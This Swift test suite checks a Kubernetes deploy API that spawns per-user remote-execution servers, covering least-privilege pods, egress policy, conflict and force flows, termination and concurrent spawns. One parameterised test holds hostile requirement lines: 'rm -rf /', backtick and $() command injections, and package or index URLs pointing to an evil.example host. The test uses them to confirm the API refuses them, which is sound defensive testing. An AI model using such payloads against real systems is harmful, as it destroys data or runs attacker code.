import Essentials
import Foundation
import Kubernetes
import TestFixtures
import TestSupport
import Testing

@testable import DeployAPI

/// The deploy API on the Kubernetes runtime, over HTTP, against kube-sim (or a real cluster):
/// what spawn creates, the no-op / 409 / force / terminate flows, races, refusals.
@Suite("Deploy API on Kubernetes")
struct KubernetesSpawnTests {
    static let sub = DeployHarness.demoSub
    static let requirements = ["python==3.11", "numpy>=1.26", "pandas==2.2.3"]

    @Test("spawn creates the user's namespace, code, requirements, server and egress policy, least-privileged and schema-valid")
    func creates() async throws {
        try await DeployHarness.run { harness in
            let reply = try await harness.spawn(Self.requirements)
            #expect(reply.status == 200, "\(reply.text)")
            #expect(reply["Status"] == .string("Remote Execution server created for user: \(Self.sub)"))
            #expect(reply["Username"] == "demo@example.org")
            #expect(reply["NDP_Endpoint_membership"] == .null)

            let kube = harness.kube
            let namespace = harness.namespace(for: Self.sub)
            let digest = try RequirementSet(lines: Self.requirements).digest
            let ns = try await kube.get(.namespaces, name: namespace)
            #expect(ns.labels["pod-security.kubernetes.io/enforce"] == "restricted")
            #expect(ns.labels["rexec.ndp/user"] == Self.sub)

            let deployment = try await kube.get(AppsV1.Deployment.self, namespace: namespace, name: "rexec-server")
            #expect(deployment.metadata.labels?["digest"] == digest)
            let pod = try #require(deployment.spec?.template.spec)
            let container = try #require(pod.containers.first)
            #expect(container.image == "python:3.11-slim")
            #expect(container.env?.first { $0.name == "REXEC_USER_ID" }?.value == Self.sub)
            #expect(container.env?.first { $0.name == "REXEC_BROKER_HOST" }?.value == harness.brokerClusterIP)
            #expect(container.resources?.limits == ["cpu": "2", "memory": "4Gi", "ephemeral-storage": "2Gi"])
            #expect(container.resources?.requests == ["cpu": "250m", "memory": "512Mi", "ephemeral-storage": "512Mi"])
            #expect(container.securityContext?["allowPrivilegeEscalation"] == false)
            #expect(container.securityContext?["readOnlyRootFilesystem"] == true)
            #expect(container.securityContext?["capabilities"]?["drop"] == ["ALL"])
            #expect(pod.securityContext?["runAsNonRoot"] == true)
            #expect(pod.automountServiceAccountToken == false)
            #expect(pod.hostNetwork == nil && pod.hostPID == nil)
            // Nothing the user sent is part of the command.
            let command = (container.command ?? []).joined(separator: " ")
            #expect(!command.contains("numpy") && !command.contains("pandas"))

            let requirementsMap = try await kube.get(CoreV1.ConfigMap.self, namespace: namespace, name: "rexec-requirements-\(digest.prefix(12))")
            #expect(requirementsMap.data?["requirements.txt"] == "numpy>=1.26\npandas==2.2.3\n")
            let code = try await kube.get(CoreV1.ConfigMap.self, namespace: namespace, name: "rexec-server-code")
            #expect(code.data?["__main__.py"]?.contains("REXEC_USER_ID") == true)
            #expect(code.data?["requirements.txt"]?.contains("pyzmq==") == true)

            let policy = try await kube.get(NetworkingV1.NetworkPolicy.self, namespace: namespace, name: "rexec-server")
            #expect(policy.spec?.policyTypes == ["Ingress", "Egress"])
            #expect(policy.spec?.ingress == [])
            #expect(
                policy.spec?.egress?.first?["to"]?.arrayValue?.first?["namespaceSelector"]?["matchLabels"]?["kubernetes.io/metadata.name"]
                    == .string(harness.brokerNamespace))

            var objects: [JSONValue] = []
            for (resource, name) in [
                (ResourceDescriptor.deployments, "rexec-server"), (.networkPolicies, "rexec-server"), (.configMaps, "rexec-server-code"),
            ] {
                objects.append(KubernetesSchemas.strippedForValidation(try await kube.get(resource, namespace: namespace, name: name).json))
            }
            objects.append(KubernetesSchemas.strippedForValidation(ns.json))
            let report = try await KubernetesSchemas.validate(objects)
            #expect(report.passed, "\(report.output)")
        }
    }

    @Test("same requirements: nothing changes; different: 409 and nothing changes; forced: replaced")
    func spawnOutcomes() async throws {
        try await DeployHarness.run { harness in
            let namespace = harness.namespace(for: Self.sub)
            #expect(try await harness.spawn(Self.requirements).status == 200)
            // The controller keeps writing status; what must not change is the spec (generation).
            func generation() async throws -> JSONValue? {
                try await harness.kube.get(.deployments, namespace: namespace, name: "rexec-server")["metadata"]?["generation"]
            }
            let before = try await generation()

            // Order and spacing do not matter: the digest sorts.
            let again = try await harness.spawn(["python==3.11", "pandas==2.2.3", " numpy>=1.26 "])
            #expect(again.status == 200)
            #expect(again["Status"] == "remote execution server instance with user-provided requirements exists.")
            #expect(try await generation() == before)

            let conflict = try await harness.spawn(["python==3.11", "scipy"])
            #expect(conflict.status == 409, "\(conflict.text)")
            #expect(conflict["Status"]?.stringValue?.contains("different requirements") == true)
            #expect(conflict["detail"] == conflict["Status"])
            #expect(conflict["Username"] == "demo@example.org")
            #expect(try await generation() == before)

            let forced = try await harness.spawn(["python==3.12", "scipy"], force: true)
            #expect(forced.status == 200, "\(forced.text)")
            #expect(forced["Status"] == .string("Remote Execution server replaced for user: \(Self.sub)"))
            let replaced = try await harness.kube.get(AppsV1.Deployment.self, namespace: namespace, name: "rexec-server")
            let newDigest = try RequirementSet(lines: ["python==3.12", "scipy"]).digest
            #expect(replaced.metadata.labels?["digest"] == newDigest)
            #expect(replaced.spec?.template.spec.containers.first?.image == "python:3.12-slim")
            let maps = try await harness.kube.list(CoreV1.ConfigMap.self, namespace: namespace, labelSelector: "rexec.ndp/role=requirements")
            #expect(maps.map(\.metadata.name) == ["rexec-requirements-\(newDigest.prefix(12))"])
        }
    }

    @Test("terminate removes everything; again, it says there is none; a new spawn works")
    func terminate() async throws {
        try await DeployHarness.run { harness in
            let namespace = harness.namespace(for: Self.sub)
            #expect(try await harness.spawn(Self.requirements).status == 200)
            let first = try await harness.terminate()
            #expect(first.status == 200)
            #expect(first["Status"] == .string("Remote Execution server terminated for user: \(Self.sub)"))
            try await harness.kube.waitUntil(.namespaces, name: namespace, timeout: .seconds(20)) { $0 == nil }
            let second = try await harness.terminate()
            #expect(second.status == 200 && second["terminated"] == false)
            #expect(second["Status"] == .string("No remote execution server exists for user: \(Self.sub)"))
            #expect(try await harness.spawn(Self.requirements)["Status"] == .string("Remote Execution server created for user: \(Self.sub)"))
        }
    }

    @Test("concurrent spawns for one user make exactly one server")
    func concurrentSpawns() async throws {
        try await DeployHarness.run { harness in
            let statuses = try await withThrowingTaskGroup(of: String.self) { group in
                for _ in 0..<8 {
                    group.addTask { try await harness.spawn(Self.requirements)["Status"]?.stringValue ?? "" }
                }
                return try await group.reduce(into: []) { $0.append($1) }
            }
            #expect(statuses.filter { $0.hasPrefix("Remote Execution server created") }.count == 1, "\(statuses)")
            #expect(statuses.filter { $0.hasPrefix("remote execution server instance") }.count == 7)
            let deployments = try await harness.kube.list(AppsV1.Deployment.self, namespace: harness.namespace(for: Self.sub))
            #expect(deployments.count == 1)
        }
    }

    @Test("the runtime alone (as two replicas would) creates once and reports the winner to the others")
    func runtimeRace() async throws {
        try await DeployHarness.run { harness in
            let runtime = try RexecDeployAPI.makeRuntime(harness.settings, logger: .init(label: "race"))
            let user = UserKey(sub: "racer-1", maxLength: harness.settings.kubernetes.maxUserKeyLength)
            let results = try await withThrowingTaskGroup(of: CreateResult.self) { group in
                for index in 0..<6 {
                    let lines = index.isMultiple(of: 2) ? Self.requirements : ["python==3.11", "scipy"]
                    group.addTask { try await runtime.create(ServerSpec(user: user, requirements: try RequirementSet(lines: lines))) }
                }
                return try await group.reduce(into: []) { $0.append($1) }
            }
            let created = results.filter { if case .created = $0 { return true } else { return false } }
            #expect(created.count == 1)
            let winner = try #require(try await runtime.server(for: user))
            for case .alreadyExists(let record) in results { #expect(record.digest == winner.digest) }
        }
    }

    @Test(
        "injections and bad requirements: 400 with the reason, nothing created",
        arguments: [
            "numpy>=1.26; rm -rf /", "pkg @ http://evil.example/x.tar.gz", "numpy`touch /tmp/owned`", "--extra-index-url http://evil", "numpy$(id)",
        ])
    func refused(line: String) async throws {
        try await DeployHarness.run { harness in
            let reply = try await harness.spawn(["python==3.11", line])
            #expect(reply.status == 400, "\(reply.text)")
            #expect(reply["detail"]?.stringValue?.hasPrefix("Invalid requirement '\(line)'") == true)
            await #expect(throws: KubernetesError.self) { try await harness.kube.get(.namespaces, name: harness.namespace(for: Self.sub)) }
        }
    }
}
